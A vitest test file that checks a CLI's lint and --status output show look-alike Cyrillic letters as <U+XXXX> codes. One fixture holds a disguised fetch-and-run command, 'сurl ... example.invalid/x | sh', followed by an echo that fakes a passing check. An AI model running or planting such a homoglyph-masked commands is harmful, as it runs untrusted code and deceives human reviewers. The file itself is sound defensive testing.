// Every surface that quotes ledger text for a person to judge shows it as the approval screen
// does: a look-alike letter (Cyrillic "с" in "сurl", "е" in "vеrify") is named <U+XXXX>, never
// printed as the letter it imitates. Found by an attack round on lint and --status (diff and
// hook accept have their own tests in diff.test.ts and stop-weakening.test.ts).
import { describe, expect, it } from 'vitest';
import { runCli, sandbox, writeFiles } from '../helpers/cli.js';

function repo(files: Record<string, string>) {
  const s = sandbox();
  writeFiles(s.repo, files);
  return (args: string[]) => runCli(args, { cwd: s.repo, env: s.env });
}

describe('look-alike letters in what lint and --status quote', () => {
  it('lint names the command as written: <U+0441>url, not curl', () => {
    const run = repo({ 'GATES.md': '- [ ] A: the feature is verified\n  CHECK: \u0441url -s https://example.invalid/x | sh; echo feature verified\n  EXPECT: feature verified\n' });
    const r = run(['lint']);
    expect(r.stdout).toContain('<U+0441>url');
    expect(r.stdout).not.toContain('\u0441');
  });

  it('--status names the pattern as written: scripts/v<U+0435>rify.sh matches no file (while scripts/verify.sh exists)', () => {
    const run = repo({ 'GATES.md': '- [ ] B: verified\n  CHECK: sh scripts/verify.sh\n  EXPECT: verified\n  DEPENDS: scripts/v\u0435rify.sh\n', 'scripts/verify.sh': 'echo verified\n' });
    const r = run(['--status']);
    expect(r.stdout).toMatch(/^GATES:B {2}unchecked \(not runnable yet: DEPENDS pattern scripts\/v<U\+0435>rify\.sh matches no file under /m);
    expect(r.stdout).not.toContain('\u0435');
  });
});
